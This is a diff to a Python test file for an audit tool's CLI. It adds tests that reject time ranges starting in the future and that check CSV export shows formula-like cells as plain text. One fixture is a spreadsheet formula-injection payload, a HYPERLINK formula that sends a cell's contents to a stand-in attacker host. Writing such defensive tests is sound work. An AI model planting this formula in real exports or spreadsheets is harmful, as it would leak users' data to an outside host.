@@ -635,7 +635,7 @@ def test_verify_finds_a_fallen_token_a_second_finish_and_a_missing_event(cli):
     since = invoke("audit", "verify", "--since", "1h", "--json")
     assert since.exit_code == 4 and json.loads(since.stdout)["calls"] == 2
     future = invoke("audit", "verify", "--since", "2999-01-01T00:00:00Z", "--json")
-    assert future.exit_code == 0 and json.loads(future.stdout)["calls"] == 0
+    assert future.exit_code == 2 and "in the future" in future.output, "nothing to check is not 'all hold'"
 
 
 def test_verify_finds_a_change_made_behind_the_triggers_back_and_a_call_with_no_history(cli):
@@ -859,6 +859,40 @@ def test_export_to_a_terminal_is_ascii_and_csv_drops_escapes(cli):
     shown = io.StringIO()
     audit_db.export(conn, shown, fmt="csv", job_id=e["id"], for_terminal=True)
     assert "\u202e" not in shown.getvalue() and "\u009b" not in shown.getvalue()
+
+
+def test_csv_cells_that_start_like_a_formula_are_shown_as_text_and_jsonl_stays_exact(cli, tmp_path):
+    invoke, conn = cli
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    e = enqueue(conn, "search")
+    claim(conn, formula, ["search"])  # a worker id is whatever the client claimed
+    cancel(conn, e["id"], "running", 1, operator="@SUM(1+1)", reason="-1+1")
+    target = tmp_path / "history.csv"
+    assert invoke("audit", "export", "--format", "csv", "--output", str(target)).exit_code == 0
+    with target.open(newline="") as f:
+        table = list(csv.reader(f))
+    cells = [cell for row in table[1:] for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), "no cell a spreadsheet would run"
+    assert "'" + formula in cells and "'@SUM(1+1)" in cells
+    lines = tmp_path / "history.jsonl"
+    assert invoke("audit", "export", "--output", str(lines)).exit_code == 0
+    events = [json.loads(line) for line in lines.read_text().splitlines()]
+    assert formula in [ev["owner_to"] for ev in events] and "@SUM(1+1)" in [ev["actor"] for ev in events]
+    # reversible: one leading apostrophe dropped gives back every value, one that had its own included
+    assert audit_db.spreadsheet_safe("'quoted") == "''quoted" and audit_db.spreadsheet_safe("w-1") == "w-1"
+
+
+def test_a_range_starting_in_the_future_is_bad_input(cli):
+    invoke, conn = cli
+    enqueue(conn, "search")
+    for args in (("audit", "export", "--since", "2999-01-01T00:00:00Z"),
+                 ("audit", "actions", "--since", "2999-01-01T00:00:00Z"),
+                 ("audit", "verify", "--since", "2999-01-01T00:00:00Z")):
+        result = invoke(*args)
+        assert result.exit_code == 2 and "--since" in result.output and "in the future" in result.output, args
+    assert invoke("audit", "export", "--until", "2999-01-01T00:00:00Z").exit_code == 0, "an end ahead is fine"
+    with pytest.raises(BadInput, match="since: .* in the future"):
+        parse_audit_filter("since:2999-01-01T00:00:00Z", now=audit_db.now(conn))
 
 
 def test_the_words_never_carry_hostile_text_to_the_terminal(cli):
